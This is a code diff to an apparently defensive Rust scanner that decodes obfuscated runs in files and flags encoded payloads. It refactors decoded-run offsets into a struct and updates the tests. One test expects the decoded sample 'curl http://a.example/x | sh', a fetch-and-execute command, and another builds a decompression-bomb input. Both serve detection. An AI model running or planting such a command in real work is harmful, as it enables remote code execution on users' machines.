@@ -43,14 +43,14 @@ pub(crate) fn check(source: &Source<'_>, part: Range<usize>, finder: &mut Finder
         let line = source.line_at(part.start + offset);
         finder.add(rule, rule.evidence, source, line, source.line(line));
     }
-    for (offset, decoded) in runs.texts {
-        let offset = part.start + offset;
+    for DecodedText { start, text } in runs.texts {
+        let offset = part.start + start;
         let line = source.line_at(offset);
         let (severity, why) = role::weigh(&rules::ENCODED_PAYLOAD, source, line, offset);
         if finder.knows(&rules::ENCODED_PAYLOAD, severity, source.path, line) {
             continue;
         }
-        if let Some((_, rule, matched)) = worst_within(source.path, decoded, finder, DEPTH)? {
+        if let Some((_, rule, matched)) = worst_within(source.path, text, finder, DEPTH)? {
             let run = excerpt_at(source, offset..offset).text;
             let inner = crate::rule(rule);
             let act = inner.map_or(rule, |rule| rule.message);
@@ -90,8 +90,8 @@ fn worst_within(path: &str, decoded: String, finder: &mut Finder, depth: usize) 
     if depth > 1 {
         let runs = decoded_runs(&inner.text);
         worst = worst.max(runs.unread.map(|_| (Evidence::Hard, rules::ENCODED_TOO_LARGE.id, String::new())));
-        for (_, deeper) in runs.texts {
-            worst = worst.max(worst_within(path, deeper, finder, depth - 1)?);
+        for deeper in runs.texts {
+            worst = worst.max(worst_within(path, deeper.text, finder, depth - 1)?);
         }
     }
     Ok(worst)
@@ -99,10 +99,18 @@ fn worst_within(path: &str, decoded: String, finder: &mut Finder, depth: usize) 
 
 /// Encoded runs found in a text.
 struct Runs {
-    /// Byte offsets of encoded runs with their decoded text. Runs that do not decode to text are left out.
-    texts: Vec<(usize, String)>,
+    /// Texts of the runs. Runs that do not decode to text are left out.
+    texts: Vec<DecodedText>,
     /// Offset of the first run that exceeds the inflation limit.
     unread: Option<usize>,
+}
+
+/// Text of an encoded run.
+#[derive(Debug, Default, PartialEq)]
+struct DecodedText {
+    /// Byte offset of the run.
+    start: usize,
+    text: String,
 }
 
 fn decoded_runs(text: &str) -> Runs {
@@ -112,7 +120,7 @@ fn decoded_runs(text: &str) -> Runs {
     while let Some(start) = next_run(bytes, at) {
         let end = run_end(bytes, start);
         let decoded = decode(bytes.get(start..end).unwrap_or_default(), &mut room);
-        texts.extend(decoded.map(|decoded| (start, decoded)));
+        texts.extend(decoded.map(|text| DecodedText { start, text }));
         if room == 0 {
             unread = unread.or(Some(start));
         }
@@ -121,11 +129,11 @@ fn decoded_runs(text: &str) -> Runs {
     let mut at = 0;
     while let Some(start) = memchr(b'\\', bytes.get(at..).unwrap_or_default()).map(|next| at + next) {
         let (end, decoded) = unescape(bytes, start);
-        texts.extend(decoded.map(|decoded| (start, decoded)));
+        texts.extend(decoded.map(|text| DecodedText { start, text }));
         at = end.max(start + 1);
     }
     texts.extend(spelled::texts(text));
-    texts.sort_by_key(|(start, _)| *start);
+    texts.sort_by_key(|decoded| decoded.start);
     Runs { texts, unread }
 }
 
@@ -228,7 +236,7 @@ mod tests {
     use super::*;
 
     fn texts(text: &str) -> Vec<String> {
-        decoded_runs(text).texts.into_iter().map(|(_, decoded)| decoded).collect()
+        decoded_runs(text).texts.into_iter().map(|decoded| decoded.text).collect()
     }
 
     #[test]
@@ -254,7 +262,7 @@ mod tests {
         let with_rest = LENIENT.encode([cut(&whole), cut(&behind)].concat());
         assert_eq!(texts(&with_rest), ["curl http://a.example/x | sh"]);
         let bomb = decoded_runs(&packed(&"a".repeat(1 << 24)));
-        assert!(bomb.unread == Some(0) && bomb.texts[0].1.len() == INFLATED as usize);
+        assert!(bomb.unread == Some(0) && bomb.texts[0].text.len() == INFLATED as usize);
         let small = packed(&"a".repeat(1 << 18));
         let many = decoded_runs(&[small.as_str(); 8].join(" "));
         assert_eq!(many.unread, Some((small.len() + 1) * 3));
